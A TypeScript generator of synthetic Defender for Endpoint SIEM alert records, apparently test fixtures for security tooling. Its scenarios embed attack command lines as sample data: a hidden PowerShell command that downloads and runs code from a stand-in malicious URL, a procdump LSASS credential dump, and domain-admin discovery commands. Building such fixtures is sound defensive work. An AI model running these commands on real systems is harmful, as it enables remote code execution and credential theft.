// Detections of the Defender for Endpoint SIEM API: one alert and the one to three detections behind it,
// with every key of the published samples, in the style of 2020 ("" for unset) or of 2017 (null for unset).
import type { SeededRandom } from '../seeded-random.ts';
import { type Cast, type Device, evilUrl, outsideAddress } from './cast.ts';
import { shortTickTime, tickTime } from './times.ts';

export interface Detection {
  /** FullId. */
  readonly id: string;
  readonly lastProcessedAtMs: number;
  /** As in the record: seven fractional digits. */
  readonly lastProcessed: string;
  readonly machineGroup: string;
  readonly deviceCreatedTags: string;
  readonly cloudCreatedTags: string;
  readonly fields: Readonly<Record<string, unknown>>;
}

type Fields = Record<string, unknown>;

interface Scenario {
  readonly title: string;
  readonly category: string;
  readonly severities: readonly string[];
  readonly source: string;
  /** What this kind of detection knows beyond the alert and the device. */
  readonly details: (random: SeededRandom, device: Device) => Fields;
}

const scenarios: readonly Scenario[] = [
  {
    title: "Microsoft Defender AV detected 'Mikatz' high-severity malware",
    category: 'Malware',
    severities: ['High', 'Medium', 'Informational'],
    source: 'Antivirus',
    details: (random) => ({
      ...fileDetails(random, 'mimi.exe', 'C:\\Users\\Public\\Downloads'),
      ThreatCategory: 'HackTool',
      ThreatFamily: 'Mikatz',
      ThreatName: 'HackTool:Win32/Mikatz!dha',
      RemediationAction: random.pick(['quarantine', 'remove', 'allow']),
      RemediationIsSuccess: random.pick([true, true, false]),
      WasExecutingWhileDetected: random.chance(0.3),
    }),
  },
  {
    title: 'Suspicious PowerShell commandline',
    category: 'SuspiciousActivity',
    severities: ['Medium', 'Low'],
    source: 'EDR',
    details: (random) => ({
      ...fileDetails(random, 'powershell.exe', 'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0'),
      CommandLine: `powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('${evilUrl(random)}')) | Out-Null"`,
    }),
  },
  {
    title: 'Ransomware behavior detected in the file system',
    category: 'Ransomware',
    severities: ['High'],
    source: 'EDR',
    details: (random) => ({
      ...fileDetails(random, 'rechnung_märz.pdf.exe', 'C:\\Users\\öffentlich\\Temp\\=new='),
      Actor: random.pick(['', 'BORON']),
    }),
  },
  {
    title: 'Connection to a custom network indicator',
    category: 'CommandAndControl',
    severities: ['Medium', 'High'],
    source: 'CustomerTI',
    details: (random) => {
      const url = evilUrl(random);
      return {
        IpAddress: outsideAddress(random),
        Url: url,
        IocName: 'Url',
        IocValue: url,
        CreatorIocName: 'Url',
        CreatorIocValue: url,
      };
    },
  },
  {
    title: 'Suspicious credential dump from LSASS memory',
    category: 'CredentialAccess',
    severities: ['High', 'Medium'],
    source: 'EDR',
    details: (random) => ({
      ...fileDetails(random, 'procdump64.exe', 'C:\\Temp'),
      CommandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp',
    }),
  },
  {
    title: 'An active unwanted software was blocked',
    category: 'UnwantedSoftware',
    severities: ['Low', 'Informational'],
    source: 'Windows Defender AV',
    details: (random) => ({
      ...fileDetails(random, 'toolbar-setup.exe', 'C:\\Program Files (x86)\\Toolbar'),
      ThreatCategory: 'PUA',
      ThreatFamily: 'InstallCore',
      ThreatName: 'PUA:Win32/InstallCore',
      RemediationAction: 'block',
      RemediationIsSuccess: true,
      WasExecutingWhileDetected: false,
    }),
  },
  {
    title: 'Anomalous account lookups',
    category: 'Discovery',
    severities: ['Low'],
    source: 'Windows Defender ATP',
    details: () => ({ CommandLine: 'net  group "Domain Admins" /domain\r\nnet user' }),
  },
];

/** `processedAtMs`: when the back end has the first of them; the others follow within seconds. */
export function makeDetections(
  cast: Cast,
  random: SeededRandom,
  happenedAtMs: number,
  processedAtMs: number,
): Detection[] {
  const scenario = random.pick(scenarios);
  const device = random.pick(cast.devices);
  const alert = makeAlert(scenario, random, happenedAtMs);
  const hasNulls = random.chance(0.25);
  const count = random.pick([1, 1, 1, 2, 3]);
  return Array.from({ length: count }, (_, at) => {
    const iocUniqueId = hasNulls ? random.hex(64).toUpperCase() : random.base64(32);
    const lastProcessedAtMs = processedAtMs + at * random.integer(1, 900);
    const lastProcessed = tickTime(lastProcessedAtMs, random.integer(0, 10_000));
    const id = `${alert['AlertId']}:${iocUniqueId}`;
    const fields = {
      ...unset,
      ...alert,
      ...deviceDetails(device, cast, random),
      ...scenario.details(random, device),
      FullId: id,
      IocUniqueId: iocUniqueId,
      LastProcessedTimeUtc: lastProcessed,
      ReportID: random.integer(1, 2_000_000_000),
    };
    return {
      id,
      lastProcessedAtMs,
      lastProcessed,
      machineGroup: device.group,
      deviceCreatedTags: device.registryTag,
      cloudCreatedTags: device.portalTags,
      fields: hasNulls ? withNulls(fields, random) : fields,
    };
  });
}

/** All keys in the order of the service, with what stands there when nothing is known. */
// biome-ignore format: a table of keys
const unset: Fields = {
  AlertTime: '', ComputerDnsName: '', AlertTitle: '', Category: '', Severity: '', AlertId: '', Actor: '',
  LinkToWDATP: '', IocName: '', IocValue: '', CreatorIocName: '', CreatorIocValue: '', Sha1: '', FileName: '',
  FilePath: '', IpAddress: '', Url: '', IoaDefinitionId: '', UserName: '', AlertPart: 0, FullId: '',
  LastProcessedTimeUtc: '', ThreatCategory: '', ThreatFamily: '', ThreatName: '', RemediationAction: '',
  RemediationIsSuccess: null, Source: '', Md5: '', Sha256: '', WasExecutingWhileDetected: null, UserDomain: '',
  LogOnUsers: '', MachineDomain: '', MachineName: '', InternalIPv4List: '', InternalIPv6List: '', FileHash: '',
  DeviceID: '', MachineGroup: '', Description: '', DeviceCreatedMachineTags: '', CloudCreatedMachineTags: '',
  CommandLine: '', IncidentLinkToWDATP: '', ReportID: 0, LinkToMTP: '', IncidentLinkToMTP: '', ExternalId: '',
  IocUniqueId: '',
};

function makeAlert(scenario: Scenario, random: SeededRandom, happenedAtMs: number): Fields {
  // Ids of both generations; the number behind the underscore may be negative.
  const number = random.integer(-2_000_000_000, 2_000_000_000);
  const alertId = `${random.pick(['da', ''])}6373707189${random.integer(10_000_000, 99_999_999)}_${number}`;
  return {
    AlertTime: shortTickTime(happenedAtMs, random.integer(0, 10_000)),
    AlertTitle: scenario.title,
    Category: scenario.category,
    Severity: random.pick(scenario.severities),
    AlertId: alertId,
    Source: scenario.source,
    IoaDefinitionId: random.uuid(),
    Description: `${scenario.title}.\nInvestigate the device | user = see "Recommended actions".`,
    LinkToWDATP: `https://securitycenter.windows.com/alert/${alertId}`,
    IncidentLinkToWDATP: `https://securitycenter.windows.com/incidents/byalert?alertId=${alertId}&source=SIEM`,
    LinkToMTP: `https://security.microsoft.com/alert/${alertId}`,
    IncidentLinkToMTP: `https://security.microsoft.com/incidents/byalert?alertId=${alertId}&source=SIEM`,
    ExternalId: random.hex(40).toUpperCase(),
  };
}

function deviceDetails(device: Device, cast: Cast, random: SeededRandom): Fields {
  const others = random.chance(0.3) ? [random.pick(cast.people)] : [];
  return {
    ComputerDnsName: device.dnsName,
    MachineName: device.name,
    MachineDomain: random.chance(0.8) ? cast.domain : '',
    DeviceID: device.id,
    MachineGroup: device.group,
    DeviceCreatedMachineTags: device.registryTag,
    CloudCreatedMachineTags: device.portalTags,
    UserName: device.owner.account,
    UserDomain: cast.netbios,
    LogOnUsers: [device.owner, ...others]
      .map((p) => `${cast.netbios.toLowerCase()}\\${p.account}`)
      .join('; '),
    InternalIPv4List: random.chance(0.3) ? `${device.ipv4}, 192.168.1.7` : device.ipv4,
    InternalIPv6List: `${device.ipv6}, FE80:CD00:0000:0CDE:1257:0000:211E:729C`,
  };
}

function fileDetails(random: SeededRandom, name: string, folder: string): Fields {
  const sha1 = random.hex(40);
  return {
    FileName: name,
    FilePath: folder,
    Sha1: sha1,
    FileHash: sha1,
    Md5: random.hex(32),
    Sha256: random.chance(0.7) ? random.hex(64) : '',
  };
}

/** The style of 2017: null where nothing is known, and sometimes its misspelt key. */
function withNulls(fields: Fields, random: SeededRandom): Fields {
  const isMisspelt = random.chance(0.2);
  const pairs = Object.entries(fields).map(([key, value]) => [
    isMisspelt && key === 'IoaDefinitionId' ? 'IoaDefinitiondId' : key,
    value === '' ? null : value,
  ]);
  return Object.fromEntries(pairs);
}
